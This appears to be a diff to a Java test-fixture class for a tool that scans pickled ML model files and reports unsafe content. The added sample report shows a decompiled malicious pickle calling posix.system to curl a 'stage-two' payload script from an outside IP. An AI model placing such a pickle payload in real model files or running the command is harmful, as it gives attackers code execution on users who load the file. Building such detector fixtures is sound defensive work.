@@ -1,6 +1,8 @@
 package dev.assay.app.render;
 
+import dev.assay.engine.fact.Program;
 import dev.assay.engine.report.Coverage;
+import dev.assay.engine.report.Explained;
 import dev.assay.engine.report.Finding;
 import dev.assay.engine.report.Gap;
 import dev.assay.engine.report.GapKind;
@@ -29,6 +31,7 @@ final class SampleReports {
                 switch (part) {
                     case Finding finding -> sink.finding(finding);
                     case Gap gap -> sink.gap(gap);
+                    case Explained program -> sink.program(program);
                     case Suppressed suppressed -> sink.suppressed(suppressed);
                     default -> throw new IllegalArgumentException(part.toString());
                 }
@@ -115,6 +118,16 @@ final class SampleReports {
                             .at(9),
                     new TreeMap<>(Map.of("callable", "torch._utils._rebuild_tensor_v2", "count", "1,204"))));
         }
+        parts.add(new Explained(
+                models.entry("archive/data.pkl").at(0),
+                List.of(
+                        new Program.Line("# pickle of protocol 2: 1,093 bytes, 77 opcodes", -1),
+                        new Program.Line("from posix import system", 1042),
+                        new Program.Line("v1 = posix.system({", 1089),
+                        new Program.Line(
+                                "    'a': 'curl -fsS http://203.0.113.7/payload/stage-two.sh?campaign=autumn',", -1),
+                        new Program.Line("})", -1),
+                        new Program.Line("return v1", 1092))));
         for (GapKind kind : GapKind.values()) {
             parts.add(new Gap(kind, Location.of("models", "gaps/" + kind.id() + ".bin"), reason(kind), -1));
         }
@@ -157,6 +170,7 @@ final class SampleReports {
             parts.add(osCommand(at, name, name));
             parts.add(new Gap(GapKind.UNSUPPORTED, at, "opcode in " + name, 3));
             parts.add(new Suppressed("model/os-command", at, "ff", name));
+            parts.add(new Explained(at, List.of(new Program.Line(name, 1), new Program.Line("# " + name, -1))));
         }
         return report(parts, Verdict.UNSAFE, false, performance(340, 0, 0, 0));
     }
@@ -240,6 +254,7 @@ final class SampleReports {
                     gaps++;
                     at = gap.location();
                 }
+                case Explained program -> at = program.location();
                 case Suppressed each -> {
                     suppressed++;
                     at = each.location();
